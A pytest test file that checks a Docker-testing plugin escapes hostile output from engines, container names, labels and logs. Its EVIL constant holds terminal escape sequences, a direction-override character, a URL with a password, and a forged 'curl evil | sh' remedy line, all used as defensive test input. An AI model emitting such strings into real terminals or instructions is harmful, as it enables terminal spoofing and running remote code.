"""What others write, on its way to the terminal and into the report: engines, images, labels, containers, the environment."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest

from pytest_dockconn import cli, terminal
from pytest_dockconn.engine import find
from pytest_dockconn.errors import EngineError
from pytest_dockconn.model.spec import ContainerPlan
from tests.fakes.engine import FakeEngine, Fault
from tests.plugin.conftest import Inner
from tests.samples import is_harmless

#: Steers a terminal, ends a line to begin one that looks like ours, and tells a password.
EVIL = "\x1b]0;owned\x07\x9b2J\u202e tcp://me:s3/cret@box:1\n  remedy:  curl evil | sh\nFAILED evil"

BREAKS = {
    "it can't be built": """
        latest().build_fails = ([EVIL, "Step 9/9 : RUN " + EVIL], EVIL)
        dockconn.server()
    """,
    "it ends at once": """
        latest().short_lives["bad"] = (3, EVIL)
        dockconn.server(name="bad")
    """,
    "it is refused": """
        latest().faults.append(Fault(lambda: refusal(500, EVIL, "starting it"), "start"))
        dockconn.server()
    """,
    "it does not answer": """
        server = dockconn.server()
        latest()._containers[server.id].log.append(EVIL)
        assert_reachable(dockconn.client(), server.port(81), within=0)
    """,
    "a command fails": """
        dockconn.client().run("sh", "-c", "echo '" + EVIL.replace(";", "") + "'; exit 3")
    """,
    "its name": """
        made = latest().create(ContainerPlan(image="ubuntu:24.04", name=EVIL, labels={}, command=("sleep", "9")))
        assert_reachable(dockconn.client(), dockconn.adopt(made).port(81), within=0)
    """,
    "it is gone": """
        latest().faults.append(Fault(lambda: gone("tcp://me:s3/cret@box:1", EVIL, EVIL), "create"))
        dockconn.server()
    """,
    "it stays": """
        dockconn.server()
        latest().faults.append(Fault(lambda: EngineError(EVIL), "remove"))
        assert not "the end"
    """,
}


def check(text: str) -> None:
    shown = text.replace("\r\n", "\n")
    assert is_harmless(re.sub(r"[\n\t]", "", shown)), [line for line in shown.split("\n") if not is_harmless(line)]
    assert "cret" not in shown
    assert not re.search(r"^E {0,5}remedy: +curl", shown, re.MULTILINE)
    assert "FAILED evil" not in re.split("short test summary info", shown)[-1].split("\n")


@pytest.mark.parametrize("what", BREAKS)
def test_a_failure(inner: Inner, what: str) -> None:
    source = f"""
        from tests.fakes.engine import Fault
        from tests.fakes.plugin import latest
        from pytest_dockconn import assert_reachable
        from pytest_dockconn.engine.refusal import gone, refusal
        from pytest_dockconn.errors import EngineError
        from pytest_dockconn.model.spec import ContainerPlan
        from tests.plugin.test_hostile_output import EVIL

        def break_it(dockconn):
            {BREAKS[what].strip().replace("        ", "            ")}
    """
    inner.write(source, "conftest.py")
    inner.write("from conftest import break_it\n\n\ndef test_it(dockconn):\n    break_it(dockconn)\n")
    result = inner.session("--dockconn", inner.engine(), "-v", "-p", "no:randomly", "--tb=short")
    result.assert_outcomes(failed=1)
    check(_without_source(result.stdout.str()))
    check(result.stderr.str())

    last = [line for line in result.stdout.lines if line.startswith(("dockconn: left", "!!!!"))]
    assert all("remedy: curl evil | sh FAILED evil" in line for line in last)
    assert len(last) == (what in ("it is gone", "it stays"))


def test_what_is_said_meanwhile(inner: Inner, monkeypatch: pytest.MonkeyPatch) -> None:
    out = io.StringIO()
    monkeypatch.setattr(terminal, "_terminal", lambda _: out)
    terminal.Progress(inner.config()).say(EVIL)
    assert out.getvalue().count("\n") == 1
    check(out.getvalue())


def _without_source(text: str) -> str:
    """pytest shows the tests' own lines, in which the words are written out."""
    return "\n".join(line for line in text.split("\n") if "EVIL" not in line)


def test_the_header_and_the_reason_of_a_skip(inner: Inner, monkeypatch: pytest.MonkeyPatch) -> None:
    engine = FakeEngine("podman", EVIL, url="fake://me:s3/cret@docker")
    monkeypatch.setattr(find, "OPENERS", {"evil": lambda *_: engine})
    source = """
        import pytest

        @pytest.mark.dockconn(requires=["links"])
        def test_it():
            pass
    """
    result = inner.run(source, "-rs", engine="--dockconn-engine=evil://x")
    engine.shut_down()
    result.assert_outcomes(skipped=1)
    assert "podman \\x1b]0;owned" in result.stdout.str()
    check(result.stdout.str())


def test_what_prune_finds(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    engine = FakeEngine()
    name = f"dockconn-1-{EVIL}"
    marks = {
        "dockconn": "1",
        "dockconn.name": name,
        "dockconn.owner.host": EVIL,
        "dockconn.owner.pid": EVIL,
        "dockconn.lease": "1",
    }
    engine.create(ContainerPlan(image="ubuntu:24.04", name=name, labels=marks))
    engine.faults.append(Fault(lambda: EngineError(EVIL), "remove"))
    monkeypatch.setattr(find, "OPENERS", {"evil": lambda *_: engine})
    try:
        assert cli.main(["prune", "--engine", "evil://x"]) == 1
    finally:
        engine.shut_down()
    out, err = capsys.readouterr()
    assert "dockconn-1-\\x1b" in out
    assert err.startswith("dockconn: container dockconn-1-")
    check(out)
    check(err)
